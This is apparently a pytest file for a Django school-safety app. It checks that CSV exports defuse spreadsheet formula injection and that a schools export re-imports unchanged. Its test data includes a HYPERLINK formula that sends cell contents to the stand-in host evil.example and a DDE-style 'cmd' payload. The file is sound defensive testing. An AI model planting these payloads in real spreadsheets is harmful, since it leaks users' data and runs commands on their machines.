"""CSV formula injection (issue 13, finding 6): every CSV export neutralises text cells that a
spreadsheet would evaluate; numbers stay numbers; the schools export still re-imports."""

from __future__ import annotations

import csv
import io
import textwrap
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client

from safeops.core.csvexport import neutralise_cell, report_writer, restore_cell
from safeops.schools.models import School
from safeops.staff.choices import Role
from safeops.staff.models import Person
from tests.safeops.drills.helpers import kentucky_year
from tests.safeops.factories import (
    DistrictFactory,
    PersonFactory,
    ScenarioDistrict,
    SchoolFactory,
    UserFactory,
)
from tests.safeops.training.helpers import seed

pytestmark = pytest.mark.shared_scenario

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DANGEROUS = (EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tcmd", "\r=1")


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(value: str) -> None:
    assert neutralise_cell(value) == f"'{value}"
    assert restore_cell(neutralise_cell(value)) == value


@pytest.mark.parametrize("value", ["-85.7", "+3", "1e5", "-0.25", -85.7, 12, "", "Alpha High"])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", ["'=1", "''-x", "'plain", "'-85.7"])
def test_every_value_round_trips_even_one_starting_with_a_quote(value: str) -> None:
    assert restore_cell(neutralise_cell(value)) == value


def test_the_report_writer_quotes_text_cells_only() -> None:
    out = io.StringIO()
    report_writer(out, lineterminator="\n").writerow([EVIL, -85.7, "-85.7", "ok"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [f"'{EVIL}", "-85.7", "-85.7", "ok"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutralised(text: str, value: str = EVIL) -> None:
    cells = _cells(text)
    assert f"'{value}" in cells, cells
    assert value not in cells


def test_the_training_district_csv_neutralises_a_name(scenario: ScenarioDistrict) -> None:
    seed(scenario.district)
    Person.objects.filter(pk=scenario.people[Role.SSO].pk).update(full_name=EVIL)
    client = Client()
    client.force_login(scenario.users[Role.TRAINING_COORDINATOR])  # type: ignore[arg-type]
    response = client.get("/training/district.csv?on=2026-11-28")
    assert response.status_code == 200
    _assert_neutralised(response.content.decode())


@pytest.mark.django_db
def test_the_drill_report_csv_neutralises_a_school_name() -> None:
    district = DistrictFactory(name="Report district")
    year = kentucky_year(district)
    SchoolFactory(district=district, name=EVIL, code="KY1")
    chief = PersonFactory(
        district=district, role=Role.SECURITY_CHIEF, user=UserFactory(username="chief-csv")
    )
    client = Client()
    client.force_login(chief.user)
    response = client.get(f"/drills/report/{year.pk}.csv")
    assert response.status_code == 200
    _assert_neutralised(response.content.decode())


@pytest.mark.django_db
def test_the_schools_export_is_neutralised_and_imports_back_unchanged(tmp_path: Path) -> None:
    source = tmp_path / "schools.csv"
    source.write_text(
        textwrap.dedent(
            """\
            name,code,level,lat,lon,address
            Alpha High,100,high,38.25,-85.75,"+1 Main St"
            "=1+2",101,middle,38.22,-85.72,"@home"
            """
        ),
        encoding="utf-8",
    )
    call_command("import_schools", str(source), stdout=io.StringIO())
    assert School.objects.filter(name="=1+2", address="@home").exists()
    out = tmp_path / "export.csv"
    call_command("export_schools", "--out", str(out), stdout=io.StringIO())
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    by_code = {row["code"]: row for row in rows}
    assert by_code["101"]["name"] == "'=1+2"
    assert by_code["101"]["address"] == "'@home"
    assert by_code["100"]["address"] == "'+1 Main St"
    assert by_code["100"]["lon"] == "-85.75"  # a number stays a number
    report = io.StringIO()
    call_command("import_schools", str(out), stdout=report)
    assert "0 created, 0 updated, 2 unchanged" in report.getvalue()
    assert School.objects.filter(name="=1+2", address="@home").exists()


def test_no_csv_writer_is_built_outside_the_shared_module() -> None:
    src = Path(__file__).resolve().parents[3] / "src" / "safeops"
    offenders = [
        str(path.relative_to(src))
        for path in src.rglob("*.py")
        if path.name != "csvexport.py"
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert offenders == []
